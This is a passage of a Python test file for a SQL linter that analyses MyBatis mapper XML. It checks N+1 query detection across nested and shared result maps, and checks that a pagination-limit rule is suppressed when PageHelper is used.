    write(tmp_path, "OrderMapper.xml", DOCTYPE + """<mapper namespace="com.x.OrderMapper">
      <resultMap id="base" type="Order"><id property="id" column="id"/></resultMap>
      <resultMap id="withItems" type="Order" extends="base">
        <collection property="items" column="id" select="com.x.ItemMapper.byOrder"/>
      </resultMap>
      <select id="page" resultMap="withItems">select id, sn from orders where status = #{status}</select>
      <select id="one" resultMap="base">select id, sn from orders where id = #{id}</select>
    </mapper>""")
    write(tmp_path, "ItemMapper.xml", DOCTYPE + """<mapper namespace="com.x.ItemMapper">
      <select id="byOrder">select id, sku from order_items where order_id = #{orderId}</select></mapper>""")
    [finding] = [f for f in check(tmp_path) if f.rule == "M002"]
    assert (finding.path, finding.line, finding.scope) == ("OrderMapper.xml", 6, "com.x.OrderMapper.page")
    assert '<collection property="items" select> for each row of page' in finding.message
    assert finding.suggestion and "order_items WHERE order_id IN" in finding.suggestion


def test_a_result_map_of_another_mapper_file_runs_its_nested_selects_too(tmp_path: Path) -> None:
    # A shared result map (a common mapper, or extends across namespaces): the N+1 sits on the statement.
    write(tmp_path, "CommonMapper.xml", DOCTYPE + """<mapper namespace="com.x.CommonMapper">
      <resultMap id="orderBase" type="Order"><id property="id" column="id"/>
        <association property="buyer" column="user_id" select="com.x.UserMapper.byId"/>
      </resultMap>
    </mapper>""")
    write(tmp_path, "OrderMapper.xml", DOCTYPE + """<mapper namespace="com.x.OrderMapper">
      <resultMap id="withItems" type="Order" extends="com.x.CommonMapper.orderBase">
        <collection property="items" column="id" select="com.x.ItemMapper.byOrder"/>
      </resultMap>
      <select id="page" resultMap="withItems">select id, user_id from orders where status = #{status}</select>
      <select id="shared" resultMap="com.x.CommonMapper.orderBase">select id, user_id from orders</select>
    </mapper>""")
    write(tmp_path, "ItemMapper.xml", DOCTYPE + """<mapper namespace="com.x.ItemMapper">
      <select id="byOrder">select id, sku from order_items where order_id = #{orderId}</select></mapper>""")
    write(tmp_path, "UserMapper.xml", DOCTYPE + """<mapper namespace="com.x.UserMapper">
      <select id="byId">select id, name from users where id = #{id}</select></mapper>""")
    found = sorted((f.path, f.line, f.scope, f.sql) for f in check(tmp_path) if f.rule == "M002")
    assert found == [  # the local <collection> on its own line, the common map's <association> on the statement
        ("OrderMapper.xml", 5, "com.x.OrderMapper.page", "select id, sku from order_items where order_id = #{orderId}"),
        ("OrderMapper.xml", 7, "com.x.OrderMapper.page", "select id, name from users where id = #{id}"),
        ("OrderMapper.xml", 8, "com.x.OrderMapper.shared", "select id, name from users where id = #{id}"),
    ]
    alone = [f for f in check(tmp_path, "OrderMapper.xml") if f.rule == "M002"]  # pre-commit: the file alone
    assert sorted((f.line, f.sql) for f in alone) == [(line, sql) for _path, line, _scope, sql in found]


def test_s016_leaves_mapper_statements_alone_where_a_pagination_plugin_adds_the_limit(tmp_path: Path) -> None:
    from sqllint.config import Config
    from sqllint.engine import run

    mapper = DOCTYPE + """<mapper namespace="com.x.UserMapper">
      <select id="selectUserList" resultType="map">
        SELECT user_id, user_name FROM sys_user
        <where>
          <if test="userName != null and userName != ''">AND user_name LIKE CONCAT(#{userName}, '%')</if>
          <if test="status != null">AND status = #{status}</if>
        </where>
      </select>
    </mapper>"""
    (tmp_path / "UserMapper.xml").write_text(mapper, encoding="utf-8")
    config = Config(root=tmp_path, select=("S016",))
    assert [f.rule for f in run(["."], config, tmp_path, jobs=1).findings] == ["S016"]
    (tmp_path / "UserController.java").write_text(
        "package com.x;\nimport com.github.pagehelper.PageHelper;\npublic class UserController {\n"
        "  public Object list(User user) { PageHelper.startPage(1, 10); return userMapper.selectUserList(user); }\n}\n",
        encoding="utf-8")
    assert run(["."], config, tmp_path, jobs=1).findings == []
    assert run(["UserMapper.xml"], config, tmp_path, jobs=1).findings == []  # a partial run reads the Java too
